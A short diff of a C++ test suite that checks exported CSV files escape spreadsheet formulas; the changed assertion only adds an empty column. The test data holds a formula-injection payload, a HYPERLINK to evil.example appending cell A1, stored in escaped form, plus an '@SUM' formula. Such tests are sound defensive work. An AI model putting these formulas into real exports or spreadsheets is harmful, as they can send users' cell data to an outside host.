@@ -64,7 +64,7 @@ TEST_SUITE("opendata") {
     CHECK(nlohmann::json::parse(files.at("data/procurement/pipeline.json"))[0]["title"] == hyperlink);
 
     const auto& measures = files.at("data/plans/p/measures.csv");
-    CHECK_MESSAGE(contains(measures, R"x(debt,p,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",number,higher,-3,-5,q1,)x"), measures);
+    CHECK_MESSAGE(contains(measures, R"x(debt,p,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",number,higher,-3,,-5,q1,)x"), measures);
     CHECK(contains(measures, ",'@SUM(1+1),"));
     CHECK(contains(files.at("data/plans/p/measure-values.csv"), "debt,q1,-5,"));
     const auto& deliverables = files.at("data/plans/p/deliverables.csv");
